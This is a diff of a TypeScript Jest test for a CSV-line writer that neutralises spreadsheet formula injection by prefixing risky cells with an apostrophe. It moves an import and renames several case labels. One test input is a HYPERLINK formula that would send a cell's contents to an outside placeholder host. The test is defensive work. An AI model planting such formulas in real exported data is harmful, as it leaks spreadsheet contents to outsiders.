@@ -1,5 +1,5 @@
 import { describe, expect, test } from '@jest/globals';
-import { csvLine } from './csv';
+import { csvLine } from './export-submissions';
 
 describe('a line of CSV', () => {
   const cells: readonly [what: string, cell: string, written: string][] = [
@@ -10,20 +10,20 @@ describe('a line of CSV', () => {
     ['line breaks', 'a\nb\r\nc', '"a\nb\r\nc"'],
     ['a formula', '=1+1', '"\'=1+1"'],
     [
-      'a formula that calls',
+      'a formula with a call',
       '=HYPERLINK("http://x.example?"&A1)',
       '"\'=HYPERLINK(""http://x.example?""&A1)"',
     ],
     ['a telephone number', '+62 812', '"\'+62 812"'],
     ['a negative number', '-5', '"\'-5"'],
-    ['a name', '@budi', '"\'@budi"'],
+    ['a handle', '@budi', '"\'@budi"'],
     ['a tab', '\t=1', '"\'\t=1"'],
     ['a carriage return', '\r=1', '"\'\r=1"'],
     ['a line feed', '\nx', '"\'\nx"'],
     ['blanks before a formula', '  =1', '"\'  =1"'],
     ['a byte order mark before a formula', '\u{feff}=1', '"\'\u{feff}=1"'],
-    ['wide signs', '＝1', '"\'＝1"'],
-    ['signs further on', 'a=1', '"a=1"'],
+    ['full-width operators', '＝1', '"\'＝1"'],
+    ['operators further on', 'a=1', '"a=1"'],
     ['an apostrophe', "'=1", '"\'=1"'],
   ];
   test.each(cells)('holds %s', (_, cell, written) => {
